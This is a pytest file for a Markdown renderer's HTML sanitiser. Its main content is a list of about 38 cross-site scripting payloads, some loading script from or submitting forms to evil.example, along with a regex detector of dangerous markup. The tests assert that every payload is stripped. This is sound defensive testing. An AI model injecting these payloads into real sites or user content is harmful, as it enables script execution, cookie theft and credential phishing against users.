"""The Markdown renderer and its sanitiser: known XSS payloads never survive, useful markup does."""
from __future__ import annotations

import re

import pytest

from knowledge.rendering import render_markdown, sanitize_html, slugify

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed;top:0\">overlay</p>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<h2 id=\"main-nav\">clobber</h2>",
]

# An unclosed <style> makes the rest of the document its (removed) content, as in a browser.
SWALLOWING = {"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"}


def _dangerous(html: str) -> list[str]:
    problems = []
    lowered = html.lower()
    if re.search(r"<\s*(script|iframe|object|embed|style|form|input|meta|base|link|svg|math|body|details)\b", lowered):
        problems.append("dangerous element")
    if re.search(r"\son[a-z]+\s*=", lowered):
        problems.append("event handler")
    if re.search(r"\sstyle\s*=", lowered):
        problems.append("style attribute")
    for url in re.findall(r'(?:href|src)="([^"]*)"', lowered):
        if re.sub(r"[\s\x00-\x1f]", "", url).startswith(("javascript:", "data:", "vbscript:")):
            problems.append(f"unsafe url {url}")
    if 'id="main-nav"' in lowered:
        problems.append("author-chosen id")
    return problems


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_known_xss_payloads_are_removed(payload):
    """Whatever an author pastes, the rendered article carries no script, handler, style or unsafe URL."""
    rendered = render_markdown(f"Before\n\n{payload}\n\nAfter")
    assert _dangerous(rendered.html) == []
    assert "Before" in rendered.html
    if payload not in SWALLOWING:
        assert "After" in rendered.html


def test_entity_encoded_script_stays_visible_text():
    """Escaped markup is shown as text, not turned into a tag."""
    rendered = render_markdown("&lt;script&gt;alert(1)&lt;/script&gt;")
    assert "<script" not in rendered.html
    assert "&lt;script&gt;" in rendered.html


def test_external_links_get_noopener_nofollow_and_internal_links_do_not():
    """Links leaving the portal carry rel="noopener nofollow"; links inside it stay plain."""
    html = render_markdown("[vendor](https://vendor.example/docs) and [other article](/kb/reports)").html
    assert '<a href="https://vendor.example/docs" rel="noopener nofollow">vendor</a>' in html
    assert '<a href="/kb/reports">other article</a>' in html


def test_author_cannot_set_rel_or_target():
    """rel and target from raw HTML are dropped (no reverse tabnabbing)."""
    html = sanitize_html('<a href="https://x.example" rel="opener" target="_blank">x</a>')
    assert "opener\"" not in html and "target" not in html
    assert 'rel="noopener nofollow"' in html


def test_headings_get_unique_anchors_and_long_articles_a_table_of_contents():
    """Each section is linkable, and three or more sections give an outline."""
    rendered = render_markdown("# Title\n\n## Set up\n\ntext\n\n## Set up\n\n### Details\n\n## Use it\n")
    assert '<h2 id="sec-set-up">Set up</h2>' in rendered.html
    assert '<h2 id="sec-set-up-2">Set up</h2>' in rendered.html
    assert [entry[1] for entry in rendered.toc] == ["sec-set-up", "sec-set-up-2", "sec-details", "sec-use-it"]


def test_short_articles_have_no_table_of_contents():
    """An outline of one or two sections would only add noise."""
    assert render_markdown("## One\n\ntext\n\n## Two\n").toc == []


def test_tables_code_and_lists_survive():
    """Useful formatting is kept."""
    html = render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n- one\n- two\n").html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<code class="language-python">' in html
    assert "<li>one</li>" in html


@pytest.mark.parametrize("source", ["[", "**", "```", "<div", "|a|\n|-|", "]]]((((", "\x00", "> " * 500 + "x", "*a" * 2000])
def test_malformed_markdown_renders_without_error(source):
    """Broken Markdown is shown as well as it can be, never an error."""
    rendered = render_markdown(source)
    assert isinstance(rendered.html, str)


def test_plain_text_is_extracted_for_search():
    """The search text has no markup and keeps words apart."""
    text = render_markdown("## Export\n\nUse **CSV** or <b>PDF</b>.\n\n- one\n- two").text
    assert "<" not in text and "**" not in text
    assert "Export Use CSV or PDF" in text and "one two" in text


@pytest.mark.parametrize("title, slug", [
    ("Schedule a weekly report", "schedule-a-weekly-report"),
    ("Crème brûlée & API: v2!", "creme-brulee-api-v2"),
    ("???", ""),
    ("日本語", ""),
])
def test_slugify(title, slug):
    """Slugs are lower-case ASCII words joined by hyphens."""
    assert slugify(title) == slug
